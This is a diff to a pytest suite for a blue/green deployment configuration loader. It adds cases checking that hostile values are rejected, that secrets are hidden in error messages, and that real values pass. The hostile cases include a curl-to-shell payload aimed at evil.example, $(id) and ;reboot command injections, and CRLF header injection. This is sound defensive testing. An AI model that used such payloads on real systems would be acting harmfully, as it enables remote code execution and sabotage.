@@ -83,6 +83,34 @@ BAD_INPUTS = [
     pytest.param({"artifact_repository": "ftp://x"}, "bluegreen:artifact_repository", id="bad-artifact-repository"),
     pytest.param({"http_proxy": "proxy:3128"}, "bluegreen:http_proxy", id="bad-proxy"),
     pytest.param({"gate_timeout_seconds": "0"}, "bluegreen:gate_timeout_seconds", id="zero-gate-timeout"),
+    # Values that would become shell syntax or code on the build instance, or split a header.
+    pytest.param(
+        {"artifact_id": "app;curl${IFS}-s${IFS}evil.example|sh;#"}, "bluegreen:artifact_id", id="hostile-artifact-id"
+    ),
+    pytest.param({"artifact_group_id": "com.example$(id>x)"}, "bluegreen:artifact_group_id", id="hostile-group-id"),
+    pytest.param({"artifact_repository": "s3://bucket/x;reboot"}, "bluegreen:artifact_repository", id="hostile-s3"),
+    pytest.param(
+        {"artifact_repository": "https://repo.example/x?$(id)"}, "bluegreen:artifact_repository", id="hostile-https"
+    ),
+    pytest.param({"http_proxy": "http://proxy$(reboot):3128"}, "bluegreen:http_proxy", id="hostile-proxy"),
+    pytest.param({"http_proxy": "http://proxy.example"}, "bluegreen:http_proxy", id="proxy-without-port"),
+    pytest.param({"ssh_username": "ec2-user; id"}, "bluegreen:ssh_username", id="hostile-ssh-user"),
+    pytest.param({"instance_type": "t3.micro; id"}, "bluegreen:instance_type", id="hostile-instance-type"),
+    pytest.param({"key_name": "ops key;id"}, "bluegreen:key_name", id="hostile-key-name"),
+    pytest.param({"instance_profile": "app profile"}, "bluegreen:instance_profile", id="hostile-profile"),
+    pytest.param({"source_ami_name": "amzn2-*;id"}, "bluegreen:source_ami_name", id="hostile-ami-name"),
+    pytest.param({"source_ami_owners": ["amazon; id"]}, "bluegreen:source_ami_owners", id="hostile-ami-owner"),
+    pytest.param({"endpoint_url": "http://127.0.0.1:5000/$(id)"}, "bluegreen:endpoint_url", id="hostile-endpoint"),
+    pytest.param({"aws:region": "ap-northeast-1; id"}, "aws:region", id="hostile-region"),
+    pytest.param({"subnet_ids": ["subnet-1; id"]}, "bluegreen:subnet_ids", id="hostile-subnet"),
+    pytest.param(
+        {"smoke_checks": [{"url": "http://x.example/health", "host": "a.example\r\nX-Injected: 1"}]},
+        "bluegreen:smoke_checks[0].host",
+        id="smoke-host-with-crlf",
+    ),
+    pytest.param(
+        {"smoke_checks": [{"url": "http://x.example/a b"}]}, "bluegreen:smoke_checks[0].url", id="smoke-url-space"
+    ),
     pytest.param({"gate_poll_seconds": "0"}, "bluegreen:gate_poll_seconds", id="zero-gate-poll"),
     pytest.param({"smoke_checks": {"url": "http://x"}}, "bluegreen:smoke_checks", id="smoke-checks-not-a-list"),
     pytest.param({"smoke_checks": [{"url": "ftp://x"}]}, "bluegreen:smoke_checks[0].url", id="smoke-bad-url"),
@@ -109,6 +137,40 @@ def test_bad_input_names_the_key(config_project: Project, overrides: dict[str, A
     message = str(raised.value)
     assert key in message
     assert "\n" not in message
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("http_proxy", "http://deploy:S3CRET-pw@proxy.example"),
+        ("artifact_repository", "https://deploy:S3CRET-pw@repo.example/maven?x"),
+        ("smoke_checks", [{"url": "https://green.example/health?token=S3CRET-pw#x"}]),
+    ],
+)
+def test_a_bad_secret_is_named_but_never_shown(config_project: Project, key: str, value: Any) -> None:
+    with pytest.raises(ConfigError) as raised:
+        load_as(config_project, "blue", **{key: value})
+    assert f"bluegreen:{key}" in str(raised.value)
+    assert "S3CRET" not in str(raised.value)
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("http_proxy", "http://deploy:p%40ss@proxy.example.com:3128"),
+        ("artifact_repository", "s3://example-maven-repository/releases"),
+        ("artifact_repository", "https://deploy:token@repo.example.com/maven2"),
+        ("artifact_group_id", "com.example.payments"),
+        ("artifact_id", "payments-api_2"),
+        ("ssh_username", "ec2-user"),
+        ("instance_type", "m5d.2xlarge"),
+        ("source_ami_owners", ["137112412989", "self"]),
+    ],
+)
+def test_real_values_are_accepted(config_project: Project, key: str, value: Any) -> None:
+    settings = load_as(config_project, "blue", **{key: value})
+    found = {**vars(settings), **vars(settings.image_build)}
+    assert found[key] == (tuple(value) if isinstance(value, list) else value)
 
 
 def test_stack_without_a_color_fails(config_project: Project) -> None:
